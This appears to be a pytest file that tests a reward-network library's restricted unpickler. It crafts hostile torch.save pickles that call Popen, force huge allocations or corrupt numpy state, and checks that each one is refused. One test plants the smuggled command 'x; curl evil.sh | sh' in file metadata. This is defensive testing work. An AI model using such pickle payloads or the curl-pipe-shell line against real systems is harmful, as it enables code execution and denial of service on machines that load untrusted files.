"""What a torch.save file may still make the restricted unpickler do, and silent wrong values.

Each hostile pickle is refused with one ``UnsafePickleError`` naming the call,
without the work it asks for: the loads run in a process capped at 1.5 GB of
address space, where the allocations they ask for would fail.
"""

from __future__ import annotations

import pickle
import re
import subprocess
import sys
import textwrap
from pathlib import Path
from typing import Any

import numpy as np
import pytest
import torch
from gymnasium import spaces
from torch import nn

import rewardnets
from rewardnets.serialize import MissingPluginError, SerializationError, UnsafePickleError

OBS = spaces.Box(-1.0, 1.0, (3,), np.float32)
ACT = spaces.Discrete(2)


class Call:
    """Pickles as ``func(*args)``: what a hostile file can write."""

    def __init__(self, func: Any, *args: Any) -> None:
        self.func, self.args = func, args

    def __reduce__(self) -> Any:
        return (self.func, self.args)


def _ndarray_of_shape(shape: tuple[int, ...]) -> Call:
    reconstruct = np.ndarray.__reduce__(np.zeros(1))[0]
    return Call(reconstruct, np.ndarray, shape, b"b")


HOSTILE_CALLS: dict[str, tuple[Any, str]] = {
    "module-constructor": (
        Call(nn.Linear, 20000, 20000),
        "calls the constructor of torch.nn.modules.linear.Linear with arguments from the file",
    ),
    "space-constructor": (
        Call(spaces.Box, -1.0, 1.0, (20000, 20000)),
        "calls the constructor of gymnasium.spaces.box.Box",
    ),
    "bytearray-of-a-size": (Call(bytearray, 3 * 10**9), "calls bytearray on an int"),
    "frozenset-of-a-range": (
        Call(frozenset, range(3 * 10**7)),
        "calls frozenset on a range; expected a list or tuple",
    ),
    "ndarray-of-a-huge-shape": (
        _ndarray_of_shape((20000, 20000)),
        r"with shape \(20000, 20000\); numpy writes \(0,\)",
    ),
    "storage-of-a-size": (
        Call(torch.UntypedStorage, 3 * 10**9),
        "calls the constructor of torch.*UntypedStorage",
    ),
}


def _load_capped(*paths: Path) -> list[str]:
    """Load each of ``paths`` in one process capped at 1.5 GB; return what each load said."""
    code = textwrap.dedent(
        f"""
        import resource
        resource.setrlimit(resource.RLIMIT_AS, (3 << 29, 3 << 29))
        import rewardnets
        from rewardnets.serialize import SerializationError
        for path in {[str(p) for p in paths]!r}:
            try:
                rewardnets.load(path)
                print("LOADED")
            except SerializationError as error:
                print(type(error).__name__, " ".join(str(error).split()))
        """
    )
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=300)
    assert out.returncode == 0, out.stderr[-3000:]  # a crash (or segfault) fails here
    return out.stdout.splitlines()


def test_a_pickle_cannot_make_the_loader_call_or_allocate(tmp_path: Path) -> None:
    paths = []
    for case, (payload, _) in sorted(HOSTILE_CALLS.items()):
        paths.append(tmp_path / f"{case}.pt")
        torch.save(payload, paths[-1], pickle_protocol=4)
    for (case, (_, match)), printed in zip(
        sorted(HOSTILE_CALLS.items()), _load_capped(*paths), strict=True
    ):
        assert printed.startswith("UnsafePickleError"), (case, printed)
        assert re.search(match, printed), (case, printed)


def _net_with_generator(folder: Path, bit_generator: Any, edit: Any) -> Path:
    folder.mkdir(exist_ok=True)
    net = rewardnets.BasicRewardNet(spaces.Box(-1.0, 1.0, (3,)), ACT, hid_sizes=(4,))
    generator = np.random.Generator(bit_generator)
    state = generator.bit_generator.state
    edit(state)
    generator.bit_generator.state = state
    net.observation_space._np_random = generator
    path = folder / "generator.pt"
    torch.save(net, path)
    return path


def _mt_pos(state: dict[str, Any]) -> None:
    state["state"]["pos"] = 10**6


def _philox_buffer_pos(state: dict[str, Any]) -> None:
    state["buffer_pos"] = 10**6


def test_a_random_generator_state_out_of_range_is_refused(tmp_path: Path) -> None:
    cases = [
        (np.random.MT19937(0), _mt_pos, "MT19937 bit generator a state with pos=1000000"),
        (np.random.Philox(0), _philox_buffer_pos, "Philox bit generator a state with buffer_pos"),
    ]
    paths = []
    for i, (bit_generator, edit, _) in enumerate(cases):
        paths.append(_net_with_generator(tmp_path / str(i), bit_generator, edit))
    # numpy would segfault on the first draw: in a process of its own
    for (_, _, match), printed in zip(cases, _load_capped(*paths), strict=True):
        assert printed.startswith("UnsafePickleError") and match in printed, printed


def test_valid_generator_states_still_load_and_draw(tmp_path: Path) -> None:
    for bit_generator in (np.random.MT19937(1), np.random.Philox(2), np.random.SFC64(3)):
        path = _net_with_generator(tmp_path, bit_generator, lambda state: None)
        loaded = rewardnets.load(path)
        drawn = loaded.observation_space.np_random.random(3)
        expected = np.random.Generator(type(bit_generator)(0)).random(3)
        assert drawn.shape == (3,) and not np.array_equal(drawn, expected)


def test_a_dtype_state_that_is_not_numpys_is_refused(tmp_path: Path) -> None:
    # float32 with the flags of an object dtype: numpy would treat floats as references.
    class FlaggedDtype:
        def __reduce__(self) -> Any:
            return (np.dtype, ("f4", False, True), (3, "<", None, None, None, -1, -1, 63))

    torch.save({"dtype": FlaggedDtype()}, tmp_path / "dtype.pt")
    with pytest.raises(UnsafePickleError, match="only the plain states numpy writes"):
        rewardnets.load(tmp_path / "dtype.pt")


def test_spaces_that_do_not_fit_their_shape_are_refused(tmp_path: Path) -> None:
    net = rewardnets.BasicRewardNet(spaces.Box(-1.0, 1.0, (3,)), ACT, hid_sizes=(4,))
    net.observation_space._shape = (20000, 20000)  # a pickle holds whatever state it likes
    torch.save(net, tmp_path / "space.pt")
    with pytest.raises(SerializationError, match="the observation_space of the net"):
        rewardnets.load(tmp_path / "space.pt")


def test_complex_weights_are_refused(tmp_path: Path) -> None:
    net = rewardnets.BasicRewardNet(OBS, ACT, hid_sizes=(4,))
    net.mlp.dense0.weight.data = net.mlp.dense0.weight.data.to(torch.complex64) + 1j
    torch.save(net, tmp_path / "complex.pt")
    with pytest.raises(
        SerializationError, match=r"'mlp\.dense0\.weight' is complex64; expected real"
    ):
        rewardnets.load(tmp_path / "complex.pt")


def test_a_plugin_cannot_widen_what_a_file_may_name(tmp_path: Path) -> None:
    payload = Call(subprocess.Popen, ["touch", str(tmp_path / "ran")])
    torch.save(payload, tmp_path / "popen.pt", pickle_protocol=4)
    # In a process of its own, so that the registration does not outlive the test.
    code = textwrap.dedent(
        f"""
        import subprocess
        import rewardnets
        from rewardnets import hookimpl
        from rewardnets.plugin_registry.registry import registry
        from rewardnets.serialize import UnsafePickleError

        class Widening:
            @staticmethod
            @hookimpl
            def register_norm_layers(register):
                register("evil/Popen", subprocess.Popen)

        try:
            registry.register_plugin(Widening, name="widening")
        except Exception as error:
            print("registration refused:", type(error).__name__)
        try:
            rewardnets.load({str(tmp_path / "popen.pt")!r})
        except UnsafePickleError as error:
            print("load refused:", error)
        """
    )
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=120)
    assert out.returncode == 0, out.stderr[-3000:]
    assert "load refused:" in out.stdout and "subprocess.Popen" in out.stdout, out.stdout
    assert not (tmp_path / "ran").exists()


def test_plain_pickles_of_every_builtin_family_still_load(tmp_path: Path) -> None:
    image = spaces.Box(0, 255, (8, 8, 3), np.uint8)
    nets = [
        rewardnets.NormalizedRewardNet(rewardnets.BasicShapedRewardNet(OBS, ACT)),
        rewardnets.AddSTDRewardWrapper(
            rewardnets.RewardEnsemble(OBS, ACT, [rewardnets.BasicRewardNet(OBS, ACT)] * 2)
        ),
        rewardnets.CnnRewardNet(image, ACT, hid_channels=(4,)),
    ]
    for i, net in enumerate(nets):
        net.observation_space.seed(i)
        torch.save(net, tmp_path / f"{i}.pt", pickle_protocol=pickle.DEFAULT_PROTOCOL)
        loaded = rewardnets.load(tmp_path / f"{i}.pt")
        assert type(loaded) is type(net)
        for key, value in net.state_dict().items():
            assert torch.equal(loaded.state_dict()[key], value)


def test_advice_is_never_taken_from_the_file(tmp_path: Path, edit_document: Any) -> None:
    saved = rewardnets.save(rewardnets.BasicRewardNet(OBS, ACT), tmp_path / "net.rn")

    def needs(meta: dict[str, Any]) -> dict[str, Any]:
        meta["requires"] = [
            {"kind": "wrapper", "name": "Evil", "distribution": "x; curl evil.sh | sh"}
        ]
        return meta

    def names(spec: dict[str, Any]) -> dict[str, Any]:
        spec["wrappers"] = ["Evil"]
        return spec

    step = edit_document(saved, tmp_path / "step.rn", "spec", names)
    bad = edit_document(step, tmp_path / "bad.rn", "metadata", needs)
    with pytest.raises(MissingPluginError) as info:
        rewardnets.load(bad)
    assert "pip install" not in str(info.value)
    assert "a distribution written as 'x; curl evil.sh | sh'" in str(info.value)


# ------------------------------------------------------------- silent wrong values
def test_hid_sizes_must_be_a_sequence_of_sizes() -> None:
    with pytest.raises(TypeError, match="Expected hid_sizes to be a sequence of layer sizes"):
        rewardnets.BasicRewardNet(OBS, ACT, hid_sizes="64")
    with pytest.raises(TypeError, match=r"Expected hid_sizes\[1\] to be an integer layer size"):
        rewardnets.BasicRewardNet(OBS, ACT, hid_sizes=(8, 2.5))
    net = rewardnets.BasicRewardNet(OBS, ACT, hid_sizes=np.array([6, 4]))
    assert [m.out_features for m in net.modules() if isinstance(m, nn.Linear)] == [6, 4, 1]


def _batch(n: int = 4) -> tuple[np.ndarray, np.ndarray, np.ndarray, np.ndarray]:
    rng = np.random.default_rng(0)
    obs = rng.uniform(-1, 1, (n, 3)).astype(np.float32)
    return obs, rng.integers(0, 2, n), obs, np.zeros(n, bool)


def test_update_stats_must_be_a_bool(tmp_path: Path) -> None:
    import gymnasium as gym
    from stable_baselines3.common.vec_env import DummyVecEnv

    net = rewardnets.NormalizedRewardNet(rewardnets.BasicRewardNet(OBS, ACT))
    for call in (net.predict_processed, net.predict_processed_th):
        with pytest.raises(TypeError, match="update_stats to be True or False, got str: 'False'"):
            call(*_batch(), update_stats="False")
    assert int(net.normalize_output_layer.count) == 0  # nothing was folded in
    net.predict_processed(*_batch(), update_stats=np.bool_(True))
    assert int(net.normalize_output_layer.count) == 4
    venv = DummyVecEnv([lambda: gym.make("CartPole-v1")])
    cartpole = rewardnets.NormalizedRewardNet(
        rewardnets.BasicRewardNet(venv.observation_space, venv.action_space)
    )
    path = rewardnets.save(cartpole, tmp_path / "net.rn")
    with pytest.raises(TypeError, match="update_stats to be True or False, got str"):
        rewardnets.load_reward("RewardNet_normalized", path, venv, update_stats="no")


@pytest.mark.parametrize(
    "space", [spaces.Discrete(3), spaces.MultiDiscrete([3, 2])], ids=["Discrete", "MultiDiscrete"]
)
def test_fractional_discrete_actions_are_refused_not_truncated(space: Any) -> None:
    net = rewardnets.BasicRewardNet(OBS, space)
    obs = np.zeros((2, 3), np.float32)
    whole = np.array([[1.0, 0.0], [2.0, 1.0]]) if space.shape else np.array([1.0, 2.0])
    assert net.predict(obs, whole, obs, np.zeros(2)).shape == (2,)  # whole floats are fine
    with pytest.raises(ValueError, match=r"Expected whole-number action values .* got \[0.5"):
        net.predict(obs, whole - 0.5, obs, np.zeros(2))


@pytest.mark.parametrize(
    ("state", "got"),
    [
        (np.array([["a", "b", "c"]] * 2), "an array of dtype <U1"),
        (np.array([[object()] * 3] * 2), "an array of dtype object"),
        (None, "None"),
        (np.ones((2, 3), np.complex64), "an array of dtype complex64"),
    ],
    ids=["strings", "objects", "None", "complex"],
)
def test_observations_that_are_not_numbers_get_an_error_naming_the_argument(
    state: Any, got: str
) -> None:
    net = rewardnets.BasicRewardNet(OBS, ACT, use_action=False)
    with pytest.raises(
        TypeError, match=f"Expected state for Box.* to be a numeric array, got {got}"
    ):
        net.predict(state, None, None, None)
